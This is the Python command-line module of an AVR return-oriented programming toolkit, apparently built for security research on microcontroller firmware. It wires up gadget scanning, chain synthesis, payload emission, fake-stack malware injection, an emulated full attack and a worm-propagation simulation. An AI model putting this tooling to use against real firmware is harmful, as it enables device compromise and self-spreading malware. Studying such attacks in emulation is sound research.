"""``avrrop`` command line.

Exit status: 0 on success, 1 on domain errors (no chain, failed attack, ...),
2 on usage or input errors. Set ``AVRROP_LOG_LEVEL`` (e.g. ``DEBUG``) for logs
on stderr.
"""

from __future__ import annotations

import argparse
import json
import logging
import os
import sys
from pathlib import Path
from typing import Any, Callable, Sequence

from . import campaign, chains, emulator, fakestack, firmware, gadgets, isa, report
from .errors import AvrRopError, ChecksumMismatch, MalformedRecord

log = logging.getLogger("avrrop")

EXIT_OK, EXIT_DOMAIN, EXIT_USAGE = 0, 1, 2


class UsageError(Exception):
    pass


def _int(text: str) -> int:
    try:
        return int(text, 0)
    except ValueError:
        raise argparse.ArgumentTypeError(f"not an integer: {text!r}") from None


def _load(path: str, sidecar: str | None = None) -> firmware.FirmwareImage:
    try:
        return firmware.load_firmware(path, sidecar)
    except (ChecksumMismatch, MalformedRecord) as exc:
        raise UsageError(f"{path}: {type(exc).__name__}: {exc}") from exc


def _read_bytes(path: str) -> bytes:
    return Path(path).read_bytes()


def _emit(args: argparse.Namespace, obj: Any, text: str) -> None:
    body = json.dumps(obj, indent=2) + "\n" if args.format == "json" else text.rstrip("\n") + "\n"
    if args.out:
        Path(args.out).write_text(body)
    else:
        sys.stdout.write(body)


def _constraints(args: argparse.Namespace) -> chains.SynthesisConstraints:
    return chains.SynthesisConstraints(
        max_packet_payload=args.max_payload,
        buffer_start=args.buffer_start,
        padding_prefix=args.padding_prefix,
    )


# ---------------------------------------------------------------------------
# subcommands


def cmd_disasm(args: argparse.Namespace) -> int:
    image = _load(args.image, args.sidecar)
    end = args.end if args.end is not None else image.size_words
    listing = isa.disassemble_range(image, args.start, end)
    obj = [{"addr": f"{a:#06x}", "text": i.text()} for a, i in listing]
    _emit(args, obj, isa.format_listing(listing))
    return EXIT_OK


def cmd_scan(args: argparse.Namespace) -> int:
    config = gadgets.ScanConfig(max_len=args.max_len, section=args.section)
    if args.table or args.plot or args.csv:
        rows = [
            report.application_row(Path(p).stem, _load(p), _constraints(args), config) for p in args.image
        ]
        if args.csv:
            Path(args.csv).write_text(report.table_csv(rows))
        if args.plot:
            report.plot_table(rows, args.plot)
        _emit(args, [r.to_json() for r in rows], report.table_text(rows))
        return EXIT_OK
    catalogs = [(p, gadgets.scan_gadgets(_load(p, args.sidecar), config)) for p in args.image]
    obj: Any = [c.to_json() for _, c in catalogs]
    if len(obj) == 1:
        obj = obj[0]
    lines = []
    for path, cat in catalogs:
        lines.append(f"# {path}: {len(cat)} gadgets")
        for g in cat:
            flag = "" if g.modeled else "  [unmodeled]"
            lines.append(f"{g.entry:#06x} {g.length:2d}  {g.text()}{flag}")
    _emit(args, obj, "\n".join(lines))
    return EXIT_OK


def cmd_chain(args: argparse.Namespace) -> int:
    image = _load(args.image, args.sidecar)
    cons = _constraints(args)
    goal = chains.ChainGoal.write_byte() if args.goal == "write-byte" else chains.ChainGoal.reprogram()
    found = chains.synthesize_chain(gadgets.scan_gadgets(image), goal, cons)
    picked = found if args.all else found[:1]
    out, lines = [], []
    for c in picked:
        if goal.kind is chains.GoalKind.WRITE_BYTE:
            payload = chains.emit_injection_payload(c, args.target, args.value, cons)
        else:
            payload = chains.emit_reprogramming_payload(c, args.fake_sp, cons)
        out.append(c.to_json(payload))
        lines.append(
            f"{c.strategy:<20} {' -> '.join(f'{e:#06x}' for e in c.entries):<32} "
            f"len={c.payload_length:<3} payload={payload.hex(',')}"
        )
    if args.bin:
        first = out[0]["payload_hex"]
        Path(args.bin).write_bytes(bytes.fromhex(first))
    _emit(args, out if args.all else out[0], "\n".join(lines))
    return EXIT_OK


def cmd_fakestack(args: argparse.Namespace) -> int:
    gadget3 = args.gadget3
    if gadget3 is None:
        if not args.image:
            raise UsageError("--gadget3 or --image is required")
        gadget3 = _load(args.image, args.sidecar).symbol("rp_page_program")
    post = fakestack.PostAction.REBOOT if args.post == "reboot" else fakestack.PostAction.EXECUTE_MALWARE
    fs = fakestack.build_fake_stack(_read_bytes(args.malware), args.dest, gadget3, post, args.fsp)
    layout = _load(args.image, args.sidecar).layout if args.image else None
    sched = fakestack.injection_schedule(fs, args.fsp, layout)
    obj = fs.to_json() | {"schedule": sched.to_json()}
    text = fs.dump() + f"\n# {len(sched)} injection writes"
    _emit(args, obj, text)
    return EXIT_OK


def cmd_emulate(args: argparse.Namespace) -> int:
    image = _load(args.image, args.sidecar)
    opts = emulator.BootOptions(
        layout=image.layout, cleanup_enabled=args.cleanup, fuel=args.fuel, max_packet_payload=args.max_payload
    )
    state = emulator.boot(image, opts)
    trace_fh = open(args.trace, "w") if args.trace else None
    try:
        if args.payload is not None or args.payload_file:
            data = bytes.fromhex(args.payload.replace(",", "")) if args.payload is not None else _read_bytes(args.payload_file)
            outcome = emulator.deliver_packet(state, data, trace=trace_fh)
        else:
            outcome = emulator.run(state, trace=trace_fh)
    finally:
        if trace_fh:
            trace_fh.close()
    obj = {"outcome": outcome.to_json(), "state": state.snapshot()}
    if args.dump:
        start, end = args.dump
        obj["sram"] = emulator.inspect(state, "sram", start, end).hex()
    text = f"{outcome.kind.value} after {outcome.instructions} instructions at pc={outcome.pc:#06x}"
    if outcome.reason:
        text += f" ({outcome.reason})"
    if "sram" in obj:
        text += f"\nsram[{args.dump[0]:#06x}:{args.dump[1]:#06x}] = {obj['sram']}"
    _emit(args, obj, text)
    return EXIT_OK if outcome.kind is not emulator.OutcomeKind.FAULT else EXIT_DOMAIN


def cmd_attack(args: argparse.Namespace) -> int:
    image = _load(args.image, args.sidecar)
    opts = emulator.BootOptions(layout=image.layout, cleanup_enabled=args.cleanup)
    machine = emulator.boot(image, opts)
    plan = campaign.AttackPlan.for_image(image, _constraints(args))
    post = fakestack.PostAction.REBOOT if args.post == "reboot" else fakestack.PostAction.EXECUTE_MALWARE
    rep = campaign.run_full_attack(
        machine, _read_bytes(args.malware), args.dest, args.fsp, post, plan=plan, oversized=args.oversized
    )
    text = "\n".join(f"{k}: {v}" for k, v in rep.to_json().items())
    _emit(args, rep.to_json(), text)
    return EXIT_OK if rep.succeeded else EXIT_DOMAIN


def cmd_wormsim(args: argparse.Namespace) -> int:
    cfg = campaign.WormConfig(
        node_count=args.nodes,
        topology=args.topology,
        loss_probability=args.loss,
        rng_seed=args.seed,
        initial_infected=args.initial,
        max_rounds=args.max_rounds,
        malware_size=args.malware_size,
    )
    image = _load(args.image, args.sidecar) if args.image else None
    rep = campaign.simulate_worm(cfg, image)
    if args.csv:
        Path(args.csv).write_text(rep.to_csv())
    if args.plot:
        report.plot_propagation(rep, args.plot, f"{cfg.node_count} nodes, {cfg.topology}, p={cfg.loss_probability}")
    text = rep.to_csv() + (
        f"# rounds_to_full_infection={rep.rounds_to_full_infection} packets={rep.packets_transmitted} "
        f"incomplete_image_events={rep.incomplete_image_events}"
    )
    _emit(args, rep.to_json(), text)
    return EXIT_OK


def cmd_fixture(args: argparse.Namespace) -> int:
    from .fixtures import demo_firmware, null_firmware, sentinel_malware

    out = Path(args.dir)
    out.mkdir(parents=True, exist_ok=True)
    written = []
    for name, img in (("demo", demo_firmware(args.variant)), ("null", null_firmware())):
        firmware.save_firmware(img, out / f"{name}.hex")
        written += [f"{name}.hex", f"{name}.json"]
    (out / "mal.bin").write_bytes(sentinel_malware(args.malware_size))
    written.append("mal.bin")
    _emit(args, {"dir": str(out), "files": written}, "\n".join(str(out / f) for f in written))
    return EXIT_OK


# ---------------------------------------------------------------------------


def build_parser() -> argparse.ArgumentParser:
    p = argparse.ArgumentParser(prog="avrrop", description="AVR return-oriented programming toolkit")
    sub = p.add_subparsers(dest="command", required=True)

    def common(sp: argparse.ArgumentParser, image: bool = True) -> None:
        if image:
            sp.add_argument("--image", required=True, help="Intel HEX firmware image")
        sp.add_argument("--sidecar", help="JSON metadata (default: image path with .json)")
        sp.add_argument("--format", choices=("text", "json"), default="text")
        sp.add_argument("--json", dest="format", action="store_const", const="json", help="same as --format json")
        sp.add_argument("--out", help="write the report here instead of stdout")

    def synth(sp: argparse.ArgumentParser) -> None:
        sp.add_argument("--max-payload", type=_int, default=28, help="packet payload limit in bytes")
        sp.add_argument("--padding-prefix", type=_int, default=4)
        sp.add_argument("--buffer-start", type=_int, default=0x105B, help="data address of the overflowed buffer")

    sp = sub.add_parser("disasm", help="disassemble a word range")
    common(sp)
    sp.add_argument("--start", type=_int, default=0, help="first word address")
    sp.add_argument("--end", type=_int, help="end word address (exclusive)")
    sp.set_defaults(func=cmd_disasm)

    sp = sub.add_parser("scan", help="list gadgets, or tabulate payload lengths per image")
    common(sp, image=False)
    sp.add_argument("--image", required=True, action="append", help="repeat for several images")
    sp.add_argument("--max-len", type=_int, default=gadgets.DEFAULT_MAX_LEN)
    sp.add_argument("--section", choices=("all", "application", "bootloader"), default="all")
    sp.add_argument("--table", action="store_true", help="per-application payload table")
    sp.add_argument("--csv", help="write the table as CSV")
    sp.add_argument("--plot", help="write a bar chart of the table (PNG/PDF/SVG)")
    synth(sp)
    sp.set_defaults(func=cmd_scan)

    sp = sub.add_parser("chain", help="synthesize a meta-gadget chain and emit its payload")
    common(sp)
    sp.add_argument("--goal", choices=("write-byte", "reprogram"), default="write-byte")
    sp.add_argument("--target", type=_int, default=0x0400, help="data BYTE address to write")
    sp.add_argument("--value", type=_int, default=0x00)
    sp.add_argument("--fake-sp", type=_int, default=fakestack.DEFAULT_FSP - 1, help="value loaded into SP")
    sp.add_argument("--all", action="store_true", help="report every chain, not only the shortest")
    sp.add_argument("--bin", help="write the first payload as raw bytes")
    synth(sp)
    sp.set_defaults(func=cmd_chain)

    sp = sub.add_parser("fakestack", help="build a fake stack and its injection schedule")
    common(sp, image=False)
    sp.add_argument("--image", help="image whose symbols and layout to use")
    sp.add_argument("--malware", required=True, help="raw malware page (<= 256 bytes)")
    sp.add_argument("--dest", type=_int, default=campaign.DEFAULT_DEST, help="program WORD address")
    sp.add_argument("--fsp", type=_int, default=fakestack.DEFAULT_FSP, help="data BYTE address")
    sp.add_argument("--gadget3", type=_int, help="word address of the page-programming gadget")
    sp.add_argument("--post", choices=("execute", "reboot"), default="execute")
    sp.set_defaults(func=cmd_fakestack)

    sp = sub.add_parser("emulate", help="boot an image, optionally deliver one packet")
    common(sp)
    sp.add_argument("--payload", help="packet payload as hex")
    sp.add_argument("--payload-file", help="packet payload as raw bytes")
    sp.add_argument("--cleanup", action="store_true", help="enable the memory cleanup countermeasure")
    sp.add_argument("--fuel", type=_int, default=1_000_000)
    sp.add_argument("--max-payload", type=_int, default=emulator.MAX_PACKET_PAYLOAD)
    sp.add_argument("--trace", help="write an instruction trace")
    sp.add_argument("--dump", type=_int, nargs=2, metavar=("START", "END"), help="include an SRAM range")
    sp.set_defaults(func=cmd_emulate)

    sp = sub.add_parser("attack", help="run the full injection + reprogramming attack")
    common(sp)
    sp.add_argument("--malware", required=True)
    sp.add_argument("--dest", type=_int, default=campaign.DEFAULT_DEST, help="program WORD address")
    sp.add_argument("--fsp", type=_int, default=fakestack.DEFAULT_FSP, help="data BYTE address")
    sp.add_argument("--post", choices=("execute", "reboot"), default="execute")
    sp.add_argument("--cleanup", action="store_true")
    sp.add_argument("--oversized", action="store_true", help="deliver the fake stack in one unlimited packet")
    synth(sp)
    sp.set_defaults(func=cmd_attack)

    sp = sub.add_parser("wormsim", help="simulate worm propagation over emulated nodes")
    common(sp, image=False)
    sp.add_argument("--image", help="firmware for every node (default: demo fixture)")
    sp.add_argument("--nodes", type=_int, default=10)
    sp.add_argument("--topology", choices=("line", "ring", "complete"), default="line")
    sp.add_argument("--loss", type=float, default=0.0)
    sp.add_argument("--seed", type=_int, default=0)
    sp.add_argument("--initial", type=_int, default=0)
    sp.add_argument("--max-rounds", type=_int, default=50)
    sp.add_argument("--malware-size", type=_int, default=64)
    sp.add_argument("--csv", help="write (round, infected_count) CSV")
    sp.add_argument("--plot", help="write the propagation curve")
    sp.set_defaults(func=cmd_wormsim)

    sp = sub.add_parser("fixture", help="write the demo and null images and a sentinel malware")
    sp.add_argument("dir")
    sp.add_argument("--variant", choices=("demo", "literal", "ideal", "nostore"), default="demo")
    sp.add_argument("--malware-size", type=_int, default=64)
    sp.add_argument("--format", choices=("text", "json"), default="text")
    sp.add_argument("--out")
    sp.set_defaults(func=cmd_fixture)
    return p


def main(argv: Sequence[str] | None = None) -> int:
    logging.basicConfig(
        level=os.environ.get("AVRROP_LOG_LEVEL", "WARNING").upper(),
        format="%(levelname)s %(name)s: %(message)s",
    )
    parser = build_parser()
    try:
        args = parser.parse_args(argv)
    except SystemExit as exc:
        return int(exc.code or 0)
    func: Callable[[argparse.Namespace], int] = args.func
    try:
        return func(args)
    except UsageError as exc:
        print(f"error: {exc}", file=sys.stderr)
        return EXIT_USAGE
    except OSError as exc:
        print(f"error: {exc}", file=sys.stderr)
        return EXIT_USAGE
    except AvrRopError as exc:
        print(f"error: {type(exc).__name__}: {exc}", file=sys.stderr)
        if args.format == "json":
            sys.stdout.write(json.dumps({"error": type(exc).__name__, "message": str(exc)}) + "\n")
        return EXIT_DOMAIN
    except (ValueError, KeyError) as exc:
        print(f"error: {exc}", file=sys.stderr)
        return EXIT_USAGE


if __name__ == "__main__":
    sys.exit(main())
